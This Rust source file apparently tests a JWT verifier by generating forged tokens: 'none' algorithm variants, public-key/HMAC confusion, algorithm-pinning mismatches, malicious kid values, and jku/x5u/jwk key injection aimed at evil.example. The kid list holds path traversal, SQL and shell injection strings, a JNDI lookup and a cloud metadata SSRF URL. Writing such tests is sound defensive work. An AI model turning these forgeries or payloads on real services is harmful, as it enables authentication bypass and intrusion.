//! Forgeries about which key verifies, and by which algorithm.

use std::sync::LazyLock;

use aws_lc_rs::{
    encoding::{AsDer as _, PublicKeyX509Der},
    hmac,
    signature::KeyPair as _,
};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use super::{Forgery, Mint, group};
use crate::support::issuer::{ISSUED_BY, Issuer, SECRET, b64, changed};

/// The attacker, who has keys of every kind too.
static STRANGER: LazyLock<Issuer> = LazyLock::new(Issuer::new);

pub fn all(mint: &Mint) -> Vec<Forgery> {
    let groups = [
        none(mint),
        confusion(mint),
        pin(mint),
        kid(mint),
        injection(mint),
        weak(mint),
        wrong(mint),
    ];
    groups.into_iter().flatten().collect()
}

fn none(mint: &Mint) -> Vec<Forgery> {
    let spellings = ["none", "None", "NONE", "nOnE", "none ", "", "es256", "ES256 ", "ES256\0"];
    let alg = |alg: &str| (format!("{alg:?} with a signature"), mint.header(json!({ "alg": alg })));
    let mut cases: Vec<_> = spellings.into_iter().map(alg).collect();
    for (name, header) in [
        ("missing", r#"{"kid":"p256","typ":"at+jwt"}"#),
        ("a number", r#"{"alg":256,"kid":"p256","typ":"at+jwt"}"#),
        ("null", r#"{"alg":null,"kid":"p256","typ":"at+jwt"}"#),
        ("an array", r#"{"alg":["ES256"],"kid":"p256","typ":"at+jwt"}"#),
        ("in capitals", r#"{"ALG":"ES256","kid":"p256","typ":"at+jwt"}"#),
        ("none without kid", r#"{"alg":"none","typ":"at+jwt"}"#),
    ] {
        cases.push((name.into(), mint.header_text(header)));
    }
    let unsigned = mint.header(json!({ "alg": "none" }));
    let message = unsigned.rsplit_once('.').unwrap().0;
    cases.push(("none with a made-up signature".into(), format!("{message}.AAAA")));
    let mut none = group("none", "alg", cases);
    none.extend(group("none", "format", [("none and nothing behind it", format!("{message}."))]));
    none
}

/// Every form in which a public key may end up as a secret, by the kid that it has.
fn public_keys() -> Vec<(String, &'static str, Vec<u8>)> {
    let spki = |der: PublicKeyX509Der<'_>| der.as_ref().to_vec();
    let (rsa, p256, ed) =
        (ISSUED_BY.rsa.public_key(), ISSUED_BY.p256.public_key(), ISSUED_BY.ed.public_key());
    let mut forms = vec![("modulus".to_owned(), "rsa", ISSUED_BY.modulus())];
    for (label, kid, der) in [
        ("PUBLIC KEY", "rsa", spki(rsa.as_der().unwrap())),
        ("RSA PUBLIC KEY", "rsa", rsa.as_ref().to_vec()),
        ("PUBLIC KEY", "p256", spki(p256.as_der().unwrap())),
        ("PUBLIC KEY", "ed", spki(ed.as_der().unwrap())),
    ] {
        let text = STANDARD.encode(&der);
        let lines: Vec<&str> =
            text.as_bytes().chunks(64).map(|line| str::from_utf8(line).unwrap()).collect();
        let pem = format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"));
        forms.extend([
            (format!("{label} as PEM"), kid, pem.clone().into_bytes()),
            (format!("{label} as PEM, no line break at the end"), kid, pem.trim_end().into()),
            (format!("{label} as PEM, CRLF"), kid, pem.replace('\n', "\r\n").into_bytes()),
            (format!("{label} as PEM, stripped"), kid, text.into_bytes()),
            (format!("{label} as DER"), kid, der),
        ]);
    }
    forms.push(("point".into(), "p256", p256.as_ref().to_vec()));
    forms.push(("point".into(), "ed", ed.as_ref().to_vec()));
    let jwks: Value = serde_json::from_str(&ISSUED_BY.jwks()).unwrap();
    for (kid, index) in [("rsa", 0), ("p256", 4), ("ed", 6)] {
        let jwk = &jwks["keys"][index];
        let x = jwk["n"].as_str().or(jwk["x"].as_str()).unwrap();
        forms.extend([
            ("JWKS".into(), kid, ISSUED_BY.jwks().into_bytes()),
            ("JWK".into(), kid, jwk.to_string().into_bytes()),
            ("text of the JWK".into(), kid, x.into()),
            ("kid".into(), kid, kid.into()),
            ("32 zeros".into(), kid, vec![0; 32]),
            ("nothing".into(), kid, Vec::new()),
            ("`secret`".into(), kid, b"secret".to_vec()),
            ("the secret of another server".into(), kid, SECRET.to_vec()),
        ]);
    }
    forms
}

fn hmac(mint: &Mint, algorithm: &str, kid: Option<&str>, secret: &[u8]) -> String {
    let header = changed(
        json!({ "alg": algorithm, "typ": "at+jwt" }),
        kid.map_or(json!({}), |kid| json!({ "kid": kid })),
    );
    let message = format!("{}.{}", b64(header.to_string()), b64(mint.claims().to_string()));
    let hash = match algorithm {
        "HS256" => hmac::HMAC_SHA256,
        "HS384" => hmac::HMAC_SHA384,
        _ => hmac::HMAC_SHA512,
    };
    let tag = hmac::sign(&hmac::Key::new(hash, secret), message.as_bytes());
    format!("{message}.{}", b64(tag))
}

fn confusion(mint: &Mint) -> Vec<Forgery> {
    let mut cases = Vec::new();
    for (form, kid, secret) in public_keys() {
        let token = hmac(mint, "HS256", Some(kid), &secret);
        cases.push((format!("HS256 by {form} of {kid}"), token));
        if form.ends_with("PEM") {
            for longer in ["HS384", "HS512"] {
                let token = hmac(mint, longer, Some(kid), &secret);
                cases.push((format!("{longer} by {form} of {kid}"), token));
            }
            let nameless = hmac(mint, "HS256", None, &secret);
            cases.push((format!("HS256 by {form} of {kid}, without kid"), nameless));
        }
    }
    group("confusion", "alg", cases)
}

fn pin(mint: &Mint) -> Vec<Forgery> {
    let said = |(kid, said, signed): (&str, &str, &str)| {
        (format!("{said} on {kid}, signed {signed}"), mint.signed(kid, said, signed))
    };
    let refused = [
        ("pinned", "RS384", "RS384"),
        ("pinned", "RS512", "RS512"),
        ("pinned", "PS256", "PS256"),
        ("pinned", "PS384", "PS384"),
        ("pinned", "PS512", "PS512"),
        ("p256", "RS256", "RS256"),
        ("p256", "EdDSA", "EdDSA"),
        ("p256", "ES512", "ES256"),
        ("p256", "ES256K", "ES256"),
        ("ed", "Ed448", "EdDSA"),
        ("ed", "eddsa", "EdDSA"),
        ("ed", "ES256", "ES256"),
        ("rsa", "RS1", "RS256"),
        ("rsa", "RSA", "RS256"),
        ("rsa", "RSA-OAEP", "RS256"),
        ("rsa", "dir", "RS256"),
        ("rsa", "HS256", "RS256"),
    ];
    let mut pin = group("alg pin", "alg", refused.map(said));
    let mixed = [
        ("rsa", "RS256", "PS256"),
        ("rsa", "PS256", "RS256"),
        ("rsa", "RS256", "RS512"),
        ("rsa", "RS512", "RS256"),
        ("rsa", "PS512", "PS256"),
        ("pinned", "RS256", "PS256"),
        ("pinned", "RS256", "RS512"),
    ];
    pin.extend(group("alg pin", "signature", mixed.map(said)));
    pin
}

fn kid(mint: &Mint) -> Vec<Forgery> {
    let names = [
        "unknown",
        "",
        " ",
        "../p256",
        "../../../../../../dev/null",
        "/proc/self/environ",
        "file:///dev/null",
        "https://evil.example/k",
        "http://169.254.169.254/latest/meta-data",
        "p256' OR '1'='1",
        "x' UNION SELECT 'secret",
        "| id",
        "$(id)",
        "${jndi:ldap://evil.example/k}",
        "__proto__",
        "*",
        "0",
        "p256\0",
        "\0",
        "p256\n",
        "p256\r\nSet-Cookie: a=b",
        " p256",
        "p256 ",
        "P256",
        "p\u{200b}256",
        "ｐ256",
        "p256,rsa",
        "[\"p256\"]",
    ];
    let kid = |kid: &str| (format!("{kid:?}"), mint.header(json!({ "kid": kid })));
    let mut cases: Vec<_> = names.into_iter().map(kid).collect();
    for (name, kid) in [
        ("257 bytes", json!("k".repeat(257))),
        ("5 kB", json!("k".repeat(5000))),
        ("a number", json!(256)),
        ("an array", json!(["p256"])),
        ("an object", json!({ "kid": "p256" })),
        ("a truth", json!(true)),
    ] {
        cases.push((name.into(), mint.header(json!({ "kid": kid }))));
    }
    let null = mint.header_text(r#"{"alg":"ES256","kid":null,"typ":"at+jwt"}"#);
    cases.push(("null".into(), null));
    let header = r#"{"alg":"RS256","typ":"at+jwt"}"#;
    let missing = ISSUED_BY.sign(header, mint.claims().to_string(), "RS256");
    cases.push(("missing, and several keys fit".into(), missing));
    group("kid", "kid", cases)
}

fn injection(mint: &Mint) -> Vec<Forgery> {
    let jwks: Value = serde_json::from_str(&STRANGER.jwks()).unwrap();
    let with_kid = |kid: &str| changed(jwks["keys"][4].clone(), json!({ "kid": kid }));
    let nameless = {
        let mut jwk = with_kid("x");
        jwk.as_object_mut().unwrap().remove("kid");
        jwk
    };
    let url = "https://evil.example/keys";
    // Of the attacker's own key, as it stands in the header; and of the true one beside it.
    let brought = [
        ("jku", json!({ "jku": url, "kid": "x" })),
        ("jku with a known kid", json!({ "jku": url })),
        ("jku of a private address", json!({ "jku": "http://169.254.169.254/", "kid": "x" })),
        ("jku behind the issuer's name", json!({ "jku": format!("{}@evil.example", mint.issuer) })),
        ("jku of a file", json!({ "jku": "file:///etc/passwd" })),
        ("jku empty", json!({ "jku": "" })),
        ("x5u", json!({ "x5u": url, "kid": "x" })),
        ("x5u with a known kid", json!({ "x5u": url })),
        ("jwk", json!({ "jwk": with_kid("x"), "kid": "x" })),
        ("jwk with a known kid", json!({ "jwk": with_kid("p256") })),
        ("jwk without kid", json!({ "jwk": nameless, "kid": null })),
        (
            "jwk with its private part",
            json!({ "jwk": changed(with_kid("p256"), json!({ "d": "AA" })) }),
        ),
        ("jwk empty", json!({ "jwk": {} })),
        ("x5c", json!({ "x5c": ["MIIBszCCAVmgAwIBAgIUAAAA"], "kid": "x" })),
        ("x5c with a known kid", json!({ "x5c": ["MIIBszCCAVmgAwIBAgIUAAAA"] })),
        ("x5c empty", json!({ "x5c": [] })),
    ];
    let good = json!({ "alg": "ES256", "kid": "p256", "typ": "at+jwt" });
    let mut cases = Vec::new();
    for (name, changes) in brought {
        let header = changed(good.clone(), changes).to_string();
        for (whose, issuer) in [("their", &STRANGER), ("our", &ISSUED_BY)] {
            let token = issuer.sign(&header, mint.claims().to_string(), "ES256");
            cases.push((format!("{name}, by {whose} key"), token));
        }
    }
    let secret =
        json!({ "alg": "HS256", "typ": "at+jwt", "jwk": { "kty": "oct", "k": b64(SECRET) } });
    let token = ISSUED_BY.sign(secret.to_string(), mint.claims().to_string(), "HS256");
    cases.push(("jwk that is a secret".into(), token));
    group("key injection", "header_key", cases)
}

fn weak(mint: &Mint) -> Vec<Forgery> {
    let dropped = [
        ("RSA of 1024 bits in the JWKS", mint.signed("weak", "RS256", "weak")),
        ("RSA for encryption", mint.good("enc", "RS256")),
        ("RSA for encryption, PSS", mint.good("enc", "PS256")),
    ];
    let mut cases = group("weak key", "kid", dropped);
    let other = mint.signed("rsa", "RS256", "weak");
    cases.extend(group("weak key", "signature", [("1024 bits under the kid of 2048", other)]));
    cases
}

fn wrong(mint: &Mint) -> Vec<Forgery> {
    let keys = [
        ("rsa", "RS256"),
        ("rsa", "PS256"),
        ("pinned", "RS256"),
        ("p256", "ES256"),
        ("p384", "ES384"),
        ("ed", "EdDSA"),
    ];
    let cases = keys.map(|(kid, algorithm)| {
        let header = json!({ "alg": algorithm, "kid": kid, "typ": "at+jwt" }).to_string();
        let token = STRANGER.sign(header, mint.claims().to_string(), algorithm);
        (format!("{algorithm} by another key than {kid}"), token)
    });
    group("wrong key", "signature", cases)
}
